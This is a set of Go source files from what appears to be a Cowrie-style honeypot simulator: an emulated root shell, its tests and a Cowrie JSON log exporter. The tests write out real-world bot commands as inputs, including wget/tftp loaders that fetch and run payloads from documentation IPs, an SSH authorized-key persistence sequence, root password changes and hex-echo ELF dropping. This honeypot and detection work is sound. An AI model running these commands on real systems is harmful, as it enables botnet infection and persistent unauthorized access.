			b.WriteByte(12)
		case 'v':
			b.WriteByte(11)
		case 'x':
			// \xHH: one or two hex digits.
			v, n := 0, 0
			for n < 2 && i+1+n < len(s) && isHex(s[i+1+n]) {
				v = v*16 + hexVal(s[i+1+n])
				n++
			}
			if n == 0 {
				b.WriteString("\\x")
			} else {
				b.WriteByte(byte(v))
				i += n
			}
		case '0', '1', '2', '3', '4', '5', '6', '7':
			v, n := 0, 0
			for n < 3 && i+n < len(s) && s[i+n] >= '0' && s[i+n] <= '7' {
				v = v*8 + int(s[i+n]-'0')
				n++
			}
			b.WriteByte(byte(v))
			i += n - 1
		default:
			b.WriteByte('\\')
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func isHex(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}

func hexVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10
	default:
		return int(c-'A') + 10
	}
}
