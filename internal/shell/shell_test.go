package shell

import (
	"fmt"
	"strings"
	"testing"
	"testing/quick"
)

// testDownload is a deterministic fetch hook.
func testDownload(uri string) ([]byte, error) {
	if strings.Contains(uri, "unreachable") {
		return nil, fmt.Errorf("no route to host")
	}
	return []byte("PAYLOAD:" + uri), nil
}

func newTestShell() *Shell { return New("svr04", testDownload) }

func TestEchoOKBot(t *testing.T) {
	// The echo_OK bot (the dominant scout in Figure 2) checks for a live
	// shell with a hex-escaped echo.
	sh := newTestShell()
	out := sh.Run(`echo -e "\x6F\x6B"`)
	if out != "ok\n" {
		t.Errorf("echo -e hex = %q, want ok", out)
	}
	if sh.StateChanged() {
		t.Error("echo must not change state")
	}
	if len(sh.Commands()) != 1 || !sh.Commands()[0].Known {
		t.Errorf("commands = %+v", sh.Commands())
	}
}

func TestUnameVariants(t *testing.T) {
	sh := newTestShell()
	cases := map[string]string{
		"uname":                "Linux\n",
		"uname -a":             "Linux svr04 5.10.0-8-amd64 #1 SMP Debian 5.10.46-4 (2021-08-03) x86_64 GNU/Linux\n",
		"uname -s -v -n -r -m": "Linux #1 SMP Debian 5.10.46-4 (2021-08-03) svr04 5.10.0-8-amd64 x86_64\n",
		"uname -s -m":          "Linux x86_64\n",
	}
	for cmd, want := range cases {
		if got := sh.Run(cmd); got != want {
			t.Errorf("%s = %q, want %q", cmd, got, want)
		}
	}
}

func TestMdrfckrSequence(t *testing.T) {
	// The exact persistence sequence of the paper's dominant campaign:
	// wipe .ssh, install an authorized key labeled mdrfckr, lock perms.
	sh := newTestShell()
	key := "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDbc8PmfO mdrfckr"
	out := sh.Run(`cd ~ && chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "` + key + `">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`)
	if strings.Contains(out, "No such file") {
		t.Errorf("unexpected error output: %q", out)
	}
	content, err := sh.FS.ReadFile("/root/.ssh/authorized_keys")
	if err != nil {
		t.Fatalf("authorized_keys not written: %v", err)
	}
	if !strings.Contains(string(content), "mdrfckr") {
		t.Errorf("authorized_keys = %q", content)
	}
	if !sh.StateChanged() {
		t.Error("state must have changed")
	}
	if len(sh.DroppedHashes()) == 0 {
		t.Error("dropped key file must be hashed")
	}
	// lockr is not a real command: the line must be recorded as unknown.
	if sh.Commands()[0].Known {
		t.Error("line containing unknown command lockr must be marked unknown")
	}
}

func TestMdrfckrRecon(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`cat /proc/cpuinfo | grep name | wc -l`)
	if out != "2\n" {
		t.Errorf("cpu count = %q, want 2", out)
	}
	out = sh.Run(`free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'`)
	if !strings.Contains(out, "2000") && !strings.Contains(out, "1") {
		t.Errorf("free|grep|awk output = %q", out)
	}
	out = sh.Run(`which ls`)
	if out != "/usr/bin/ls\n" {
		t.Errorf("which ls = %q", out)
	}
	out = sh.Run(`crontab -l`)
	if out != "no crontab for root\n" {
		t.Errorf("crontab -l = %q", out)
	}
	if sh.StateChanged() {
		t.Error("recon must not change state")
	}
}

func TestBusyboxAppletProbe(t *testing.T) {
	// Mirai-style probe: a bogus applet name must echo back "applet not
	// found", which the bot greps for.
	sh := newTestShell()
	out := sh.Run(`/bin/busybox KDVRN`)
	if out != "KDVRN: applet not found\n" {
		t.Errorf("busybox probe = %q", out)
	}
	out = sh.Run(`/bin/busybox cat /proc/self/exe || cat /proc/self/exe`)
	if !strings.Contains(out, "\x7fELF") {
		t.Errorf("busybox cat self/exe = %q", out)
	}
}

func TestLoaderSequenceWgetChmodExecRm(t *testing.T) {
	// The canonical Cluster-1 loader: cd, wget, chmod, execute, remove.
	sh := newTestShell()
	out := sh.Run(`cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh`)
	_ = out
	dls := sh.Downloads()
	if len(dls) != 1 {
		t.Fatalf("downloads = %+v", dls)
	}
	if dls[0].URI != "http://198.51.100.7/bins.sh" {
		t.Errorf("URI = %q", dls[0].URI)
	}
	if dls[0].SourceIP != "198.51.100.7" {
		t.Errorf("SourceIP = %q", dls[0].SourceIP)
	}
	if dls[0].Hash == "" {
		t.Error("download must be hashed")
	}
	execs := sh.ExecAttempts()
	if len(execs) != 1 {
		t.Fatalf("execs = %+v", execs)
	}
	if !execs[0].FileExists {
		t.Error("downloaded file must exist at exec time")
	}
	if execs[0].Hash != dls[0].Hash {
		t.Error("exec hash must match download hash")
	}
	if sh.FS.Exists("/tmp/bins.sh") {
		t.Error("file must be removed afterwards")
	}
}

func TestExecMissingFile(t *testing.T) {
	// Bots that assume scp/rsync delivered a file hit "file missing" —
	// the dominant case in Figure 4(b).
	sh := newTestShell()
	out := sh.Run(`cd /tmp && ./update.sh`)
	if !strings.Contains(out, "No such file or directory") {
		t.Errorf("output = %q", out)
	}
	execs := sh.ExecAttempts()
	if len(execs) != 1 || execs[0].FileExists {
		t.Fatalf("execs = %+v", execs)
	}
	if execs[0].Path != "/tmp/update.sh" {
		t.Errorf("path = %q", execs[0].Path)
	}
}

func TestAndOrShortCircuit(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`cd /nonexistent && echo yes || echo no`)
	if !strings.Contains(out, "no") || strings.Contains(out, "yes") {
		t.Errorf("short circuit broken: %q", out)
	}
	out = sh.Run(`cd /tmp && echo yes || echo no`)
	if !strings.Contains(out, "yes") || strings.Contains(out, "no\n") {
		t.Errorf("short circuit broken: %q", out)
	}
	// The classic bbox fallback chain must land in the first directory
	// that exists.
	sh.Run(`cd /tmp || cd /var/run || cd /mnt || cd /root || cd /`)
	if sh.FS.Cwd() != "/tmp" {
		t.Errorf("cwd = %q, want /tmp", sh.FS.Cwd())
	}
}

func TestRedirectionsCreateFiles(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo hello > /tmp/a.txt`)
	content, err := sh.FS.ReadFile("/tmp/a.txt")
	if err != nil || string(content) != "hello\n" {
		t.Fatalf("redirect write: %q, %v", content, err)
	}
	sh.Run(`echo world >> /tmp/a.txt`)
	content, _ = sh.FS.ReadFile("/tmp/a.txt")
	if string(content) != "hello\nworld\n" {
		t.Errorf("append = %q", content)
	}
	// No-space form.
	sh.Run(`echo x >/tmp/b.txt`)
	if !sh.FS.Exists("/tmp/b.txt") {
		t.Error(">file without space must work")
	}
	// Clearing a file: "echo > /etc/hosts.deny" (the mdrfckr variant).
	sh.Run(`echo > /etc/hosts.deny`)
	content, _ = sh.FS.ReadFile("/etc/hosts.deny")
	if string(content) != "\n" {
		t.Errorf("hosts.deny = %q", content)
	}
}

func TestVariableAndCommandSubstitution(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run(`echo $SHELL`); out != "/bin/bash\n" {
		t.Errorf("$SHELL = %q", out)
	}
	if out := sh.Run(`echo ${HOME}`); out != "/root\n" {
		t.Errorf("${HOME} = %q", out)
	}
	if out := sh.Run(`ls -lh $(which ls)`); !strings.Contains(out, "ls") {
		t.Errorf("command substitution = %q", out)
	}
	if out := sh.Run("echo `whoami`"); out != "root\n" {
		t.Errorf("backtick substitution = %q", out)
	}
	sh.Run(`export FOO=bar`)
	if out := sh.Run(`echo $FOO`); out != "bar\n" {
		t.Errorf("export = %q", out)
	}
	sh.Run(`BAZ=qux`)
	if out := sh.Run(`echo $BAZ`); out != "qux\n" {
		t.Errorf("assignment = %q", out)
	}
}

func TestChpasswdMarksStateChange(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo "root:xyzpassword123"|chpasswd|bash`)
	if !sh.StateChanged() {
		t.Error("chpasswd must modify /etc/shadow")
	}
}

func TestCurlVariants(t *testing.T) {
	sh := newTestShell()
	// curl_maxred style: silent GET with cookies, no file saved.
	out := sh.Run(`curl https://203.0.113.9/ -s -X GET --max-redirs 5 --compressed --cookie 'SID=abc' --raw --referer 'https://example.ru/'`)
	if !strings.Contains(out, "PAYLOAD:") {
		t.Errorf("curl output = %q", out)
	}
	if len(sh.Downloads()) != 1 {
		t.Fatalf("downloads = %+v", sh.Downloads())
	}
	if sh.StateChanged() {
		t.Error("plain curl must not change state")
	}
	// curl -O saves to basename.
	sh2 := newTestShell()
	sh2.Run(`cd /tmp; curl -O http://198.51.100.7/dropper`)
	if !sh2.FS.Exists("/tmp/dropper") {
		t.Error("curl -O must save the file")
	}
}

func TestTftpAndFtpget(t *testing.T) {
	sh := newTestShell()
	sh.Run(`cd /tmp; tftp -g -r mirai.arm 198.51.100.9`)
	if !sh.FS.Exists("/tmp/mirai.arm") {
		t.Error("tftp -g -r must save file")
	}
	sh.Run(`cd /tmp; ftpget -u anonymous -p guest 198.51.100.10 gaf.x86 gaf.x86`)
	if !sh.FS.Exists("/tmp/gaf.x86") {
		t.Error("ftpget must save file")
	}
	uris := []string{}
	for _, d := range sh.Downloads() {
		uris = append(uris, d.URI)
	}
	want := []string{"tftp://198.51.100.9/mirai.arm", "ftp://198.51.100.10/gaf.x86"}
	for i := range want {
		if uris[i] != want[i] {
			t.Errorf("uri[%d] = %q, want %q", i, uris[i], want[i])
		}
	}
}

func TestUnreachableDownload(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`wget http://unreachable.example/x`)
	if !strings.Contains(out, "wget:") {
		t.Errorf("output = %q", out)
	}
	// Download attempt is still recorded (the honeynet logs the URI) but
	// without a hash.
	if len(sh.Downloads()) != 1 || sh.Downloads()[0].Hash != "" {
		t.Errorf("downloads = %+v", sh.Downloads())
	}
}

func TestUnknownCommandRecorded(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`rsync -avz attacker@203.0.113.5:/payload /tmp/`)
	if !strings.Contains(out, "command not found") {
		t.Errorf("output = %q", out)
	}
	cmds := sh.Commands()
	if len(cmds) != 1 || cmds[0].Known {
		t.Errorf("rsync must be recorded as unknown: %+v", cmds)
	}
}

func TestExitEndsSession(t *testing.T) {
	sh := newTestShell()
	sh.Run("uname -a")
	sh.Run("exit")
	if !sh.Exited() {
		t.Error("exit must mark the session done")
	}
	// Exit mid-line stops later commands.
	sh2 := newTestShell()
	out := sh2.Run("exit; echo after")
	if strings.Contains(out, "after") {
		t.Errorf("commands after exit ran: %q", out)
	}
}

func TestPromptTracksCwd(t *testing.T) {
	sh := newTestShell()
	if got := sh.Prompt(); got != "root@svr04:~# " {
		t.Errorf("prompt = %q", got)
	}
	sh.Run("cd /tmp")
	if got := sh.Prompt(); got != "root@svr04:/tmp# " {
		t.Errorf("prompt = %q", got)
	}
}

func TestCatEtcPasswd(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("cat /etc/passwd")
	if !strings.Contains(out, "root:x:0:0:") {
		t.Errorf("passwd = %q", out)
	}
}

func TestHistoryClearing(t *testing.T) {
	sh := newTestShell()
	sh.Run("uname")
	out := sh.Run("history")
	if !strings.Contains(out, "uname") {
		t.Errorf("history = %q", out)
	}
	if out := sh.Run("history -c"); out != "" {
		t.Errorf("history -c = %q", out)
	}
}

func TestRmGlob(t *testing.T) {
	sh := newTestShell()
	sh.Run("echo a > /tmp/x1; echo b > /tmp/x2; echo c > /tmp/keep.txt")
	sh.Run("rm -rf /tmp/x*")
	if sh.FS.Exists("/tmp/x1") || sh.FS.Exists("/tmp/x2") {
		t.Error("glob removal failed")
	}
	if !sh.FS.Exists("/tmp/keep.txt") {
		t.Error("glob removed too much")
	}
}

func TestExtractURIs(t *testing.T) {
	line := `cd /tmp; wget http://1.2.3.4/a.sh; curl -O https://evil.example/b?x=1; tftp://5.6.7.8/c`
	uris := ExtractURIs(line)
	if len(uris) != 3 {
		t.Fatalf("uris = %v", uris)
	}
	if uris[0] != "http://1.2.3.4/a.sh" || uris[2] != "tftp://5.6.7.8/c" {
		t.Errorf("uris = %v", uris)
	}
}

func TestDecodeEchoEscapesProperty(t *testing.T) {
	// Round-trip: encoding arbitrary bytes as \xHH escapes and decoding
	// must reproduce them — this is how bbox_echo_elf drops binaries.
	f := func(data []byte) bool {
		var enc strings.Builder
		for _, b := range data {
			fmt.Fprintf(&enc, "\\x%02x", b)
		}
		return decodeEchoEscapes(enc.String()) == string(data)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEchoHexDropELF(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo -ne "\x7f\x45\x4c\x46\x02\x01" > /tmp/drop`)
	content, err := sh.FS.ReadFile("/tmp/drop")
	if err != nil {
		t.Fatal(err)
	}
	if string(content) != "\x7fELF\x02\x01" {
		t.Errorf("dropped bytes = %x", content)
	}
	if len(sh.DroppedHashes()) != 1 {
		t.Error("dropped file must be hashed")
	}
}

func TestSplitSegments(t *testing.T) {
	segs := splitSegments(`a && b || c; d | e`)
	if len(segs) != 5 {
		t.Fatalf("segments = %+v", segs)
	}
	wantOps := []opKind{opAnd, opOr, opSeq, opPipe, opSeq}
	wantText := []string{"a", "b", "c", "d", "e"}
	for i, s := range segs {
		if s.text != wantText[i] || s.next != wantOps[i] {
			t.Errorf("seg %d = %+v", i, s)
		}
	}
	// Quoted operators are literal.
	segs = splitSegments(`echo "a && b"`)
	if len(segs) != 1 {
		t.Errorf("quoted operator split: %+v", segs)
	}
}

func TestSplitWordsQuoting(t *testing.T) {
	pc := splitWords(`echo "hello world" 'single quoted' plain`)
	want := []string{"echo", "hello world", "single quoted", "plain"}
	if len(pc.words) != len(want) {
		t.Fatalf("words = %v", pc.words)
	}
	for i := range want {
		if pc.words[i] != want[i] {
			t.Errorf("word %d = %q, want %q", i, pc.words[i], want[i])
		}
	}
}

func TestNestedShellDepthBounded(t *testing.T) {
	sh := newTestShell()
	// A recursive sh -c bomb must not blow the stack.
	line := `sh -c "sh -c \"sh -c 'sh -c \\\"sh -c uname\\\"'\""`
	out := sh.Run(line)
	_ = out // must terminate
}

func TestBase64Decode(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`echo -n dW5hbWUgLWE= | base64 -d`)
	if out != "uname -a" {
		t.Errorf("base64 -d = %q", out)
	}
}

func TestShCRunsNested(t *testing.T) {
	sh := newTestShell()
	out := sh.Run(`sh -c "uname -s"`)
	if out != "Linux\n" {
		t.Errorf("sh -c = %q", out)
	}
}

func BenchmarkShellLoaderSequence(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sh := newTestShell()
		sh.Run(`cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh`)
	}
}

func BenchmarkShellRecon(b *testing.B) {
	sh := newTestShell()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sh.Run(`cat /proc/cpuinfo | grep name | wc -l`)
	}
}
