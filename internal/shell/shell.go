// Package shell emulates the Unix shell a medium-interaction SSH/Telnet
// honeypot presents after login, in the style of Cowrie: a fixed set of
// "known" commands run against a virtual filesystem, everything else is
// recorded verbatim, URIs in download commands are extracted, and the
// hash of every file created is retained.
package shell

import (
	"fmt"
	"net"
	"net/url"
	"regexp"
	"strings"

	"honeynet/internal/session"
	"honeynet/internal/vfs"
)

// DownloadFunc produces the content behind a URI for emulated wget/curl/
// tftp fetches. The simulator installs a deterministic synthetic payload
// generator; returning an error emulates an unreachable server.
type DownloadFunc func(uri string) ([]byte, error)

// Shell is one login session's command interpreter. Not safe for
// concurrent use.
type Shell struct {
	FS       *vfs.FS
	Hostname string
	User     string
	Env      map[string]string

	download DownloadFunc

	commands     []session.Command
	downloads    []session.Download
	execAttempts []session.ExecAttempt

	// baseline is the filesystem change-log checkpoint at shell start;
	// state-change accounting is relative to it, so a persistent
	// filesystem shared across sessions attributes changes correctly.
	baseline int

	exited bool
	depth  int
}

// New returns a shell over a fresh honeypot filesystem.
func New(hostname string, download DownloadFunc) *Shell {
	return NewWithFS(hostname, vfs.New(), download)
}

// NewWithFS returns a shell over an existing filesystem — the persistent
// honeypot mode keeps one filesystem per client across connections, so a
// returning attacker finds the files of earlier sessions (the
// consistency check of section 5).
func NewWithFS(hostname string, fs *vfs.FS, download DownloadFunc) *Shell {
	if hostname == "" {
		hostname = "svr04"
	}
	return &Shell{
		FS:       fs,
		baseline: fs.ChangeCount(),
		Hostname: hostname,
		User:     "root",
		Env: map[string]string{
			"SHELL": "/bin/bash",
			"HOME":  "/root",
			"USER":  "root",
			"PATH":  "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
			"TERM":  "xterm",
		},
		download: download,
	}
}

// Prompt returns the PS1-style prompt string.
func (sh *Shell) Prompt() string {
	cwd := sh.FS.Cwd()
	if cwd == "/root" {
		cwd = "~"
	}
	return fmt.Sprintf("%s@%s:%s# ", sh.User, sh.Hostname, cwd)
}

// Exited reports whether an exit/logout command ended the session.
func (sh *Shell) Exited() bool { return sh.exited }

// Commands returns the recorded command log.
func (sh *Shell) Commands() []session.Command { return sh.commands }

// Downloads returns recorded file retrievals.
func (sh *Shell) Downloads() []session.Download { return sh.downloads }

// ExecAttempts returns recorded file-execution attempts.
func (sh *Shell) ExecAttempts() []session.ExecAttempt { return sh.execAttempts }

// StateChanged reports whether any command of THIS session mutated the
// filesystem (changes from earlier sessions on a persistent filesystem
// are not attributed to it).
func (sh *Shell) StateChanged() bool { return len(sh.FS.ChangesSince(sh.baseline)) > 0 }

// DroppedHashes returns the distinct hashes of files created or modified
// during this session, in first-seen order.
func (sh *Shell) DroppedHashes() []string {
	seen := map[string]bool{}
	var out []string
	for _, c := range sh.FS.ChangesSince(sh.baseline) {
		if (c.Kind == vfs.ChangeCreate || c.Kind == vfs.ChangeModify) && c.Hash != "" && !seen[c.Hash] {
			seen[c.Hash] = true
			out = append(out, c.Hash)
		}
	}
	return out
}

// Run executes one input line (which may contain several commands) and
// returns the combined output. The line is recorded in the command log.
func (sh *Shell) Run(line string) string {
	line = strings.TrimSpace(line)
	if line == "" {
		return ""
	}
	known := sh.lineKnown(line)
	sh.commands = append(sh.commands, session.Command{Raw: line, Known: known})
	for _, uri := range ExtractURIs(line) {
		_ = uri // URIs are recorded via downloads when fetch commands run.
	}
	out, _ := sh.eval(line, "")
	return out
}

// lineKnown reports whether every simple command on the line is emulated.
func (sh *Shell) lineKnown(line string) bool {
	for _, seg := range splitSegments(line) {
		pc := splitWords(seg.text)
		if len(pc.words) == 0 {
			continue
		}
		name := pc.words[0]
		if !sh.isKnownCommand(name) {
			return false
		}
	}
	return true
}

func (sh *Shell) isKnownCommand(name string) bool {
	base := name[strings.LastIndexByte(name, '/')+1:]
	if _, ok := builtins[base]; ok {
		return true
	}
	// A direct path invocation of an existing file counts as known
	// (the honeypot "executes" it); a missing file is also handled.
	if strings.HasPrefix(name, "./") || strings.HasPrefix(name, "/") {
		return true
	}
	return false
}

// eval runs a full line (sequences, pipelines) with the given stdin and
// returns (output, exitStatus).
func (sh *Shell) eval(line, stdin string) (string, int) {
	if sh.depth > 8 {
		return "", 1
	}
	sh.depth++
	defer func() { sh.depth-- }()

	segs := splitSegments(line)
	var out strings.Builder
	lastExit := 0
	i := 0
	for i < len(segs) {
		// Collect a pipeline: segments joined by opPipe.
		j := i
		for j < len(segs) && segs[j].next == opPipe {
			j++
		}
		pipeline := segs[i : j+1]

		// Honor && / || using the PREVIOUS segment's operator.
		runIt := true
		if i > 0 {
			switch segs[i-1].next {
			case opAnd:
				runIt = lastExit == 0
			case opOr:
				runIt = lastExit != 0
			}
		}
		if runIt && !sh.exited {
			pout, pexit := sh.runPipeline(pipeline, stdin)
			out.WriteString(pout)
			lastExit = pexit
		}
		i = j + 1
	}
	return out.String(), lastExit
}

// runPipeline executes the segments of one pipeline, feeding each
// command's output to the next command's stdin.
func (sh *Shell) runPipeline(segs []segment, stdin string) (string, int) {
	cur := stdin
	exit := 0
	for idx, seg := range segs {
		pc := splitWords(sh.expand(seg.text))
		if len(pc.words) == 0 {
			continue
		}
		out, e := sh.runSimple(pc, cur)
		exit = e
		if pc.redir != nil {
			sh.applyRedirect(pc.redir, out)
			out = ""
		}
		if idx < len(segs)-1 {
			cur = out
		} else {
			cur = out
		}
	}
	return cur, exit
}

func (sh *Shell) applyRedirect(r *redirect, content string) {
	if r.append {
		_ = sh.FS.AppendFile(r.target, []byte(content))
	} else {
		_ = sh.FS.WriteFile(r.target, []byte(content))
	}
}

// expand performs $VAR / ${VAR} expansion and $(...) / backtick command
// substitution outside single quotes.
func (sh *Shell) expand(text string) string {
	// Command substitution first.
	text = sh.substituteCommands(text)

	var b strings.Builder
	inSingle := false
	for i := 0; i < len(text); i++ {
		c := text[i]
		switch {
		case c == '\'':
			inSingle = !inSingle
			b.WriteByte(c)
		case c == '$' && !inSingle && i+1 < len(text):
			name, consumed := parseVarName(text[i+1:])
			if consumed == 0 {
				b.WriteByte(c)
				continue
			}
			b.WriteString(sh.Env[name])
			i += consumed
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

func parseVarName(s string) (string, int) {
	if s == "" {
		return "", 0
	}
	if s[0] == '{' {
		end := strings.IndexByte(s, '}')
		if end < 0 {
			return "", 0
		}
		return s[1:end], end + 1
	}
	n := 0
	for n < len(s) && (isAlnum(s[n]) || s[n] == '_') {
		n++
	}
	if n == 0 {
		return "", 0
	}
	return s[:n], n
}

func isAlnum(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
}

// substituteCommands replaces $(cmd) and `cmd` with the command output.
func (sh *Shell) substituteCommands(text string) string {
	for iter := 0; iter < 4; iter++ {
		start := strings.Index(text, "$(")
		if start >= 0 {
			depth := 0
			end := -1
			for i := start + 2; i < len(text); i++ {
				if text[i] == '(' {
					depth++
				} else if text[i] == ')' {
					if depth == 0 {
						end = i
						break
					}
					depth--
				}
			}
			if end < 0 {
				break
			}
			inner, _ := sh.eval(text[start+2:end], "")
			text = text[:start] + strings.TrimRight(inner, "\n") + text[end+1:]
			continue
		}
		tick := strings.IndexByte(text, '`')
		if tick >= 0 {
			end := strings.IndexByte(text[tick+1:], '`')
			if end < 0 {
				break
			}
			inner, _ := sh.eval(text[tick+1:tick+1+end], "")
			text = text[:tick] + strings.TrimRight(inner, "\n") + text[tick+2+end:]
			continue
		}
		break
	}
	return text
}

// runSimple executes one simple command.
func (sh *Shell) runSimple(pc parsedCmd, stdin string) (string, int) {
	name := pc.words[0]
	args := pc.words[1:]
	base := name[strings.LastIndexByte(name, '/')+1:]

	// VAR=value assignments.
	if eq := strings.IndexByte(name, '='); eq > 0 && !strings.ContainsAny(name[:eq], "/. ") {
		sh.Env[name[:eq]] = name[eq+1:]
		return "", 0
	}

	if fn, ok := builtins[base]; ok {
		// Path-qualified invocations must reference a real binary, except
		// for the well-known locations bots use blindly.
		return fn(sh, args, stdin)
	}

	// Direct invocation of a file path: an execution attempt.
	if strings.HasPrefix(name, "./") || strings.HasPrefix(name, "/") || strings.HasPrefix(name, "~/") {
		return sh.attemptExec(name)
	}

	return fmt.Sprintf("-bash: %s: command not found\n", name), 127
}

// attemptExec records an attempt to run the file at path.
func (sh *Shell) attemptExec(path string) (string, int) {
	hash, ok := sh.FS.HashOf(path)
	sh.execAttempts = append(sh.execAttempts, session.ExecAttempt{
		Path:       sh.FS.Abs(path),
		FileExists: ok,
		Hash:       hash,
	})
	if !ok {
		return fmt.Sprintf("-bash: %s: No such file or directory\n", path), 127
	}
	// The honeypot pretends execution succeeded silently, as Cowrie does
	// for foreign binaries.
	return "", 0
}

// fetch runs the download hook and records the result.
func (sh *Shell) fetch(uri, saveAs string) (content []byte, hash string, err error) {
	if sh.download == nil {
		return nil, "", fmt.Errorf("network unreachable")
	}
	content, err = sh.download(uri)
	dl := session.Download{URI: uri, SourceIP: hostIPFromURI(uri)}
	if err == nil {
		if saveAs != "" {
			_ = sh.FS.WriteFile(saveAs, content)
			if h, ok := sh.FS.HashOf(saveAs); ok {
				dl.Hash = h
				hash = h
			}
		} else {
			dl.Hash = vfsHash(content)
			hash = dl.Hash
		}
		dl.Size = int64(len(content))
	}
	sh.downloads = append(sh.downloads, dl)
	return content, hash, err
}

func vfsHash(b []byte) string { return vfs.HashBytes(b) }

var uriRe = regexp.MustCompile(`(?i)\b(?:https?|ftp|tftp)://[^\s'";]+`)

// ExtractURIs returns every URI-looking token in a command line, the way
// the honeypot records URIs for any command that includes one.
func ExtractURIs(line string) []string {
	return uriRe.FindAllString(line, -1)
}

// hostIPFromURI returns the host portion of a URI when it is an IP
// literal, else the hostname.
func hostIPFromURI(uri string) string {
	u, err := url.Parse(uri)
	if err != nil {
		return ""
	}
	host := u.Hostname()
	if ip := net.ParseIP(host); ip != nil {
		return ip.String()
	}
	return host
}
