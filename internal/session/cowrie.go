package session

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"time"
)

// CowrieEvent is one event in Cowrie's JSON log format — the format the
// real honeynet's collectors ingest. Exporting our records in it lets
// existing Cowrie analysis tooling consume simulated or live data from
// this honeypot unchanged.
type CowrieEvent struct {
	EventID   string `json:"eventid"`
	Session   string `json:"session"`
	SrcIP     string `json:"src_ip"`
	SrcPort   int    `json:"src_port,omitempty"`
	DstIP     string `json:"dst_ip,omitempty"`
	Timestamp string `json:"timestamp"`
	Sensor    string `json:"sensor"`

	// Event-specific fields.
	Username string  `json:"username,omitempty"`
	Password string  `json:"password,omitempty"`
	Input    string  `json:"input,omitempty"`
	Message  string  `json:"message,omitempty"`
	Version  string  `json:"version,omitempty"`
	URL      string  `json:"url,omitempty"`
	SHASum   string  `json:"shasum,omitempty"`
	Outfile  string  `json:"outfile,omitempty"`
	Duration float64 `json:"duration,omitempty"`
	Protocol string  `json:"protocol,omitempty"`
}

// Cowrie event ids.
const (
	CowrieConnect      = "cowrie.session.connect"
	CowrieClientVer    = "cowrie.client.version"
	CowrieLoginSuccess = "cowrie.login.success"
	CowrieLoginFailed  = "cowrie.login.failed"
	CowrieCommandInput = "cowrie.command.input"
	CowrieFileDownload = "cowrie.session.file_download"
	CowrieClosed       = "cowrie.session.closed"
)

// cowrieTime formats timestamps the way Cowrie logs them.
func cowrieTime(t time.Time) string {
	return t.UTC().Format("2006-01-02T15:04:05.000000Z")
}

// CowrieEvents converts a session record to the ordered Cowrie event
// stream that would have produced it: connect, client version, login
// attempts, command inputs, file downloads, close.
func (r *Record) CowrieEvents() []CowrieEvent {
	sid := fmt.Sprintf("%012x", r.ID)
	base := func(eventid string, at time.Time) CowrieEvent {
		return CowrieEvent{
			EventID:   eventid,
			Session:   sid,
			SrcIP:     r.ClientIP,
			SrcPort:   r.ClientPort,
			DstIP:     r.HoneypotIP,
			Timestamp: cowrieTime(at),
			Sensor:    r.HoneypotID,
			Protocol:  r.Protocol,
		}
	}
	// Spread intermediate events between start and end so the stream is
	// monotone.
	span := r.End.Sub(r.Start)
	steps := len(r.Logins) + len(r.Commands) + len(r.Downloads) + 2
	tick := func(i int) time.Time {
		if steps <= 1 || span <= 0 {
			return r.Start
		}
		return r.Start.Add(span * time.Duration(i) / time.Duration(steps))
	}

	var out []CowrieEvent
	i := 0
	ev := base(CowrieConnect, tick(i))
	ev.Message = fmt.Sprintf("New connection: %s:%d (%s:22) [session: %s]", r.ClientIP, r.ClientPort, r.HoneypotIP, sid)
	out = append(out, ev)
	i++

	if r.ClientVersion != "" {
		ev = base(CowrieClientVer, tick(i))
		ev.Version = r.ClientVersion
		out = append(out, ev)
		i++
	}
	for _, l := range r.Logins {
		id := CowrieLoginFailed
		msg := "login attempt [%s/%s] failed"
		if l.Success {
			id = CowrieLoginSuccess
			msg = "login attempt [%s/%s] succeeded"
		}
		ev = base(id, tick(i))
		ev.Username = l.Username
		ev.Password = l.Password
		ev.Message = fmt.Sprintf(msg, l.Username, l.Password)
		out = append(out, ev)
		i++
	}
	for _, c := range r.Commands {
		ev = base(CowrieCommandInput, tick(i))
		ev.Input = c.Raw
		ev.Message = "CMD: " + c.Raw
		out = append(out, ev)
		i++
	}
	for _, d := range r.Downloads {
		ev = base(CowrieFileDownload, tick(i))
		ev.URL = d.URI
		ev.SHASum = d.Hash
		if d.Hash != "" {
			ev.Outfile = "var/lib/cowrie/downloads/" + d.Hash
		}
		out = append(out, ev)
		i++
	}
	ev = base(CowrieClosed, tick(steps))
	ev.Duration = r.End.Sub(r.Start).Seconds()
	ev.Message = "Connection lost"
	out = append(out, ev)
	return out
}

// WriteCowrieJSONL streams the records' Cowrie event logs to w, one JSON
// event per line (the cowrie.json format).
func WriteCowrieJSONL(w io.Writer, recs []*Record) error {
	bw := bufio.NewWriterSize(w, 1<<20)
	enc := json.NewEncoder(bw)
	for _, r := range recs {
		for _, ev := range r.CowrieEvents() {
			if err := enc.Encode(ev); err != nil {
				return err
			}
		}
	}
	return bw.Flush()
}
