package session

import (
	"bufio"
